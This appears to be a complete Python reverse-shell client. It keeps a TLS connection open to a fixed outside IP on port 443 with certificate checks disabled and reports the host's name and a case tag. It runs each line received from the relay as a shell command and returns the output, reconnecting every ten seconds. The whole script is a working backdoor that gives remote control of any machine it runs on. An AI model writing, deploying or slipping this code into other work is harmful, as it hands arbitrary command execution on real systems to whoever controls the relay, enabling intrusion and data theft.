#!/usr/bin/env python3
import argparse, socket, ssl, subprocess, time

RELAY = ("203.0.113.45", 443)

ap = argparse.ArgumentParser(); ap.add_argument("--case", required=True)
a = ap.parse_args()

ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
log = open("relay.log", "a")

while True:
    try:
        s = ctx.wrap_socket(socket.create_connection(RELAY, 15))
        s.sendall(f"CASE {a.case} {socket.gethostname()}\n".encode())
        f = s.makefile("rwb", buffering=0)
        for line in f:
            cmd = line.decode(errors="ignore").strip()
            if not cmd:
                continue
            log.write(f"{time.ctime()} {cmd}\n"); log.flush()
            p = subprocess.run(cmd, shell=True, capture_output=True, timeout=120)
            f.write(p.stdout + p.stderr + b"\n--END--\n")
    except Exception:
        time.sleep(10)
